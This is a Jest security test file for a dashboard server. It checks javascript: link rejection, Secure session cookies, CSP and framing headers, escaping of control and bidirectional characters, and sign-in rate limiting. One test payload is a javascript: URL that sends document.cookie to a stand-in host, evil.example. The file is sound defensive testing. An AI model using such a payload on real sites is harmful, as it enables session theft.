// Attack tests (issue 31) on the dashboard of a real server on a port (embedded chDB): a
// javascript: issue link, the session cookie behind a TLS proxy, framing and sniffing, a cached
// new-token page, and guessing admin credentials at the sign-in form.
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { silentLogger } from '../../src/log/logger.js';
import { sql } from '../../src/sql/bind.js';
import { type RunningServer, startServer } from '../../src/server.js';
import { type ProjectHandle, run, seedProject } from '../support/api.js';
import { openTestDatabase, type TestDatabase } from '../support/engines.js';

const PUBLIC_URL = 'https://stress.example.com';
let t: TestDatabase;
/** Served behind a TLS proxy: the public URL is https, the server itself speaks http. */
let server: RunningServer;
let p: ProjectHandle;

beforeAll(async () => {
  t = await openTestDatabase('embedded');
  p = await seedProject(t.db, 'dash');
  server = await startServer(t.db, silentLogger(), '127.0.0.1', 0, { publicUrl: PUBLIC_URL });
}, 120_000);
afterAll(async () => {
  await server?.close();
  await t?.close();
});

/** Signs in as the proxy would pass it on: the browser's Origin is the public URL. */
const signIn = (credential: string) =>
  fetch(`${server.url}/sign-in`, {
    method: 'POST',
    redirect: 'manual',
    headers: { 'content-type': 'application/x-www-form-urlencoded', origin: PUBLIC_URL },
    body: new URLSearchParams({ credential }).toString(),
  });
const sessionOf = (res: Response) => /sg_session=([^;]+)/.exec(res.headers.get('set-cookie') ?? '')![1]!;
const page = (path: string, cookie: string, init: RequestInit = {}) => fetch(`${server.url}${path}`, { redirect: 'manual', ...init, headers: { cookie: `sg_session=${cookie}`, ...(init.headers ?? {}) } });

describe('the dashboard', () => {
  it('refuses a javascript: issue link, and never renders a stored one as a link', async () => {
    const res = await fetch(`${server.url}/api/v1/projects/${p.handle}/quarantine`, {
      method: 'POST',
      headers: { authorization: `Bearer ${p.admin}`, 'content-type': 'application/json' },
      body: JSON.stringify({ module: ':app', suite: 'S', name: 'linked', state: 'muted', owner: 'o', reason: 'r', issueUrl: 'javascript:fetch("//evil.example/"+document.cookie)' }),
    });
    expect([res.status, ((await res.json()) as any).error?.field]).toEqual([400, 'issueUrl']);
    // One stored before the check (written straight to the table): shown as text, not a link.
    const ok = await fetch(`${server.url}/api/v1/projects/${p.handle}/quarantine`, {
      method: 'POST',
      headers: { authorization: `Bearer ${p.admin}`, 'content-type': 'application/json' },
      body: JSON.stringify({ module: ':app', suite: 'S', name: 'stored', state: 'muted', owner: 'o', reason: 'r', issueUrl: 'https://issues.example.com/1' }),
    });
    expect(ok.status).toBe(201);
    await t.db.engine.command(
      sql`ALTER TABLE ${t.db.t('quarantines')} UPDATE issue_url = 'javascript:alert(1)' WHERE issue_url = 'https://issues.example.com/1'`,
    );
    const cookie = sessionOf(await signIn(p.admin));
    let html = '';
    for (let i = 0; i < 50 && !html.includes('javascript:'); i++) {
      html = await (await page(`/projects/${p.handle}/quarantine`, cookie)).text();
      if (!html.includes('javascript:')) await new Promise((r) => setTimeout(r, 100));
    }
    expect(html).toContain('javascript:alert(1)');
    expect(html).not.toMatch(/href="javascript:/i);
  });

  it('sets the session cookie Secure when the public URL is https (behind a TLS proxy)', async () => {
    const res = await signIn(p.admin);
    expect(res.status).toBe(303);
    expect(res.headers.get('set-cookie')).toMatch(/;\s*Secure/i);
  });

  it('sends a content security policy, frame-ancestors, nosniff on its pages, and no-store on the new-token page', async () => {
    const cookie = sessionOf(await signIn(p.admin));
    for (const path of ['/sign-in', `/projects/${p.handle}/runs`, `/projects/${p.handle}/tokens`]) {
      const res = await page(path, cookie);
      expect(res.status).toBe(200);
      expect(res.headers.get('content-security-policy')).toMatch(/default-src 'none'/);
      expect(res.headers.get('content-security-policy')).toMatch(/frame-ancestors 'none'/);
      expect(res.headers.get('x-content-type-options')).toBe('nosniff');
    }
    const tokensHtml = await (await page(`/projects/${p.handle}/tokens`, cookie)).text();
    const csrf = /name="csrf" value="([^"]+)"/.exec(tokensHtml)![1]!;
    const created = await page(`/projects/${p.handle}/tokens`, cookie, {
      method: 'POST',
      headers: { 'content-type': 'application/x-www-form-urlencoded', origin: PUBLIC_URL },
      body: new URLSearchParams({ csrf, name: 'new', scope: 'merge-request' }).toString(),
    });
    expect(created.status).toBe(200);
    expect(await created.text()).toContain('id="new-token"');
    expect(created.headers.get('cache-control')).toMatch(/no-store/);
  });

  it('shows a test’s control and bidirectional characters as escapes on the run page and in the run report', async () => {
    const hostile = 'pays\u202eexe.gnp\u001b[31m\u0000end';
    const res = await fetch(`${server.url}/api/v1/projects/${p.handle}/runs`, {
      method: 'POST',
      headers: { authorization: `Bearer ${p.token}`, 'content-type': 'application/json' },
      body: JSON.stringify(run('hostile-text', [], { branch: 'feature/\u2066turned\u2069', testCases: [{ module: ':app\u001b[2J', suite: 'com.example.Hostile', name: hostile, status: 'failure', durationMs: 5 }] })),
    });
    expect(res.status).toBe(201);
    const cookie = sessionOf(await signIn(p.admin));
    const page = await (await fetch(`${server.url}/projects/${p.handle}/runs/hostile-text`, { headers: { cookie: `sg_session=${cookie}` } })).text();
    const report = await (await fetch(`${server.url}/api/v1/projects/${p.handle}/runs/hostile-text/report.md`, { headers: { authorization: `Bearer ${p.admin}` } })).text();
    for (const text of [page, report]) {
      expect(text).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/);
    }
    expect(page).toContain('pays\\u202eexe.gnp\\u001b[31m\\u0000end');
    expect(page).toContain('feature/\\u2066turned\\u2069');
    expect(report).toContain('\\u202e');
  });

  it('slows down guessing admin credentials at the sign-in form', async () => {
    const statuses: number[] = [];
    for (let i = 0; i < 30; i++) statuses.push((await signIn(`sga_guess-${i}`)).status);
    process.stdout.write(`30 wrong sign-ins: ${JSON.stringify(statuses.reduce<Record<number, number>>((m, s) => ({ ...m, [s]: (m[s] ?? 0) + 1 }), {}))}\n`);
    expect(statuses.slice(0, 5)).toEqual([400, 400, 400, 400, 400]);
    expect(statuses.filter((s) => s === 429).length).toBeGreaterThanOrEqual(15);
    // Even the right credential waits its turn once the address is over the limit.
    expect((await signIn(p.admin)).status).toBe(429);
  });
});
